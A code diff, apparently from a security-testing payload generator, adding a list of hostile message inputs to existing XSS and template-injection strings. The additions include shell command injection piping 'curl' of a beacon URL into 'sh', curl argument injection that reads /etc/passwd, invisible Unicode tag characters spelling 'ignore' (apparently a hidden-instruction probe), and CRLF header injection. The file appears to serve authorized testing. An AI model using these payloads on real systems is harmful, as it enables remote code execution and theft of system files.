@@ -21,6 +21,7 @@ export function listPayloads(beacon: string): Payload[] {
     media,
     parser: parsers,
     text: () => texts,
+    message: messages,
   }
   return Object.entries(groups).flatMap(([group, list]) =>
     list('BEACON', 'CODE').map((template, index) => {
@@ -186,6 +187,26 @@ const parsers = (url: string, code: string): string[] => [
   `</iframe><script>${code}</script>`,
   `--></style></script></textarea><script>${code}</script>`,
   `\`\${${code}}\`{{constructor.constructor("${code}")()}}`,
+]
+
+/** Texts that mention people, link, format or run where messages, Markdown and commands are read. */
+const messages = (url: string): string[] => [
+  '<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD> <!subteam^S012AB3CD>',
+  '@everyone @here @channel <@&1234> <@!1234> <#1234> </command:1>',
+  '<at>everyone</at> <at id="0">Ann</at>',
+  `<${url}|Open the report>`,
+  `[Open the report](${url}) <${url}> ${url}`,
+  `![picture](${url}) ![picture][x]\n\n[x]: ${url} "title"`,
+  `[^1] [x]\n\n[^1]: ![](${url})\n[x]: ${url}`,
+  'Fixes #1, closes near/nearcore#2, GH-3, @near/core, 0123456789abcdef0123456789abcdef01234567',
+  '# Heading\n## Notes of the team\n> quote\n---\n- [x] done\n1. one\n| a |\n|---|\n| b |',
+  '````\n@everyone\n````\n~~~\n# out\n~~~',
+  '`` ` `` @everyone ``` `` **b** _i_ ~~s~~ ||s|| *b*',
+  `<details><summary>x</summary><img src="${url}"></details>`,
+  `'; curl ${url} #\n$(curl ${url}) \`curl ${url}\` && curl ${url} | sh`,
+  `--output=/etc/passwd -K ${url} @/etc/passwd`,
+  'ignore\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e0100}\u{e01ef}\u00ad\u061c\u180e all of it',
+  'line\r\nX-Injected: 1\u2028second\u2029third\u0085fourth',
 ]
 
 /** Texts without markup that mislead the reader or use names of built-in object properties. */
